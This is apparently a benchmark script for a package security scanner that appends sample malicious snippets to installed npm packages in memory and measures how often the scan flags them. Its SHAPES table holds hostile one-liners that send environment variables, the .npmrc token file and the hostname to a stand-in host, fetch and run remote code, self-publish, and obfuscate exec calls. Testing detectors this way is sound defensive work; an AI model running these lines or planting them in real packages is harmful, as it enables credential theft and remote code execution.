/**
 * What the scan says of harm that was put in, and of packages that are honest. Shapes of malicious code, written for this and inert, are
 * put into the main file of the packages that plugward itself is built with. Usage: node bench/trust-detection.ts
 */
import { readdirSync, readFileSync, statSync } from 'node:fs';
import { writeFile } from 'node:fs/promises';
import { join, relative } from 'node:path';
import { compareScans, FULL_BUDGET, type PackageFile, scanFacts, scanPackage } from '../source/engine/trust/index.ts';
import type { PackageScan } from '../source/engine/scan.ts';

const MODULES = join(import.meta.dirname, '..', 'node_modules');
const HOSTS = 20;
const LARGEST_BYTES = 2_000_000;
const { signal } = new AbortController();

const SHAPES: Readonly<Record<string, string>> = {
	'environment sent away': "fetch('https://collect.example/' + encodeURIComponent(JSON.stringify(process.env)));",
	'token file sent away':
		"require('fs').readFile(require('os').homedir() + '/.npmrc', (e, b) => require('https').request('https://collect.example').end(b));",
	'publishes itself': "require('child_process').execSync('npm publish --access public');",
	'program downloaded and started':
		"require('https').get('https://collect.example/a', (r) => { require('fs').writeFileSync('/tmp/a', 'x'); require('child_process').spawn('/tmp/a', { detached: true, stdio: 'ignore' }); });",
	'code from the network run': "require('https').get('https://collect.example/a.js', (r) => r.on('data', (d) => eval(String(d))));",
	'names put together': "const c = require('chi' + 'ld_pro' + 'cess'); c['ex' + 'ec']('id');",
	'code in base64': "Function(Buffer.from('Y29uc29sZS5sb2coMSk7IGNvbnNvbGUubG9nKDIpOyBjb25zb2xlLmxvZygzKQ==', 'base64').toString())();",
	'names asked by DNS': "require('dns').lookup(Buffer.from(require('os').hostname()).toString('hex') + '.collect.example', () => {});",
	'wallet address swapped': 'globalThis.fetch = new Proxy(globalThis.fetch, { apply: (f, t, a) => f.apply(t, a) });',
};

type Found = {
	readonly name: string;
	readonly files: readonly PackageFile[];
	readonly root: string;
	readonly packageJson: Record<string, unknown>;
};

const packages = namesIn(MODULES).flatMap((name) => readPackage(name) ?? []);
const scans = new Map<string, PackageScan>();
for (const found of packages) {
	scans.set(found.name, await scan(found, ''));
}

const loud = packages.filter(({ name }) => factsOf(name).some(({ severity }) => severity === 'danger'));
const cautious = packages.filter(({ name }) => factsOf(name).some(({ severity }) => severity === 'danger' || severity === 'caution'));
const hosts = packages.filter(({ root, packageJson }) => mainOf({ root, packageJson }) !== null).slice(0, HOSTS);
const told: Record<string, number> = {};
for (const [shape, code] of Object.entries(SHAPES)) {
	told[shape] = 0;
	for (const host of hosts) {
		const before = scans.get(host.name);
		const after = await scan(host, `\n;${code}\n`);
		const gained =
			before === undefined
				? []
				: compareScans({ version: '1', observed: before.observed }, { version: '2', observed: after.observed }).gained;
		told[shape] += Number(gained.length > 0);
	}
}

const total = Object.values(told).reduce((sum, count) => sum + count, 0);
const pairs = hosts.length * Object.keys(SHAPES).length;
process.stdout.write(`${packages.length} honest packages: ${loud.length} with a danger, ${cautious.length} with a danger or a caution\n`);
process.stdout.write(`${pairs} pairs of host and shape: ${total} gain something (${((100 * total) / pairs).toFixed(0)} %)\n`);
for (const [shape, count] of Object.entries(told)) {
	process.stdout.write(`  ${shape.padEnd(32)} ${count} of ${hosts.length}\n`);
}

const result = { packages: packages.length, danger: loud.map(({ name }) => name), cautions: cautious.length, hosts: hosts.length, told };
await writeFile(join(import.meta.dirname, 'results', 'trust-detection.json'), `${JSON.stringify(result, null, '\t')}\n`);

function factsOf(name: string) {
	const scan = scans.get(name);
	return scan === undefined ? [] : scanFacts({ id: name, scan });
}

function namesIn(folder: string): readonly string[] {
	return readdirSync(folder).flatMap((name) =>
		name.startsWith('@') ? readdirSync(join(folder, name)).map((inner) => `${name}/${inner}`) : name.startsWith('.') ? [] : [name],
	);
}

function readPackage(name: string): Found | null {
	const root = join(MODULES, name);
	const files = readdirSync(root, { recursive: true, withFileTypes: true })
		.filter((entry) => entry.isFile() && !relative(root, entry.parentPath).split('/').includes('node_modules'))
		.map((entry) => {
			const path = join(entry.parentPath, entry.name);
			const { size, mode } = statSync(path);
			return { path: relative(root, path), size, executable: (mode & 0o111) !== 0 };
		});
	const bytes = files.filter(({ path }) => /\.[cm]?js$/.test(path)).reduce((sum, { size }) => sum + size, 0);
	return bytes === 0 || bytes > LARGEST_BYTES
		? null
		: { name, files, root, packageJson: JSON.parse(readFileSync(join(root, 'package.json'), 'utf8')) as Record<string, unknown> };
}

function mainOf({ root, packageJson }: Pick<Found, 'root' | 'packageJson'>): string | null {
	const main = typeof packageJson['main'] === 'string' ? packageJson['main'].replace(/^\.\//, '') : 'index.js';
	return statSync(join(root, main), { throwIfNoEntry: false })?.isFile() === true ? main : null;
}

function scan(found: Found, added: string): Promise<PackageScan> {
	const main = added === '' ? null : mainOf(found);
	return scanPackage({
		files: found.files.map((file) => (file.path === main ? { ...file, size: file.size + added.length } : file)),
		read: (path) => {
			const bytes = readFileSync(join(found.root, path));
			return path === main ? Buffer.concat([bytes, Buffer.from(added)]) : bytes;
		},
		packageJson: found.packageJson,
		budget: FULL_BUDGET,
		signal,
	});
}
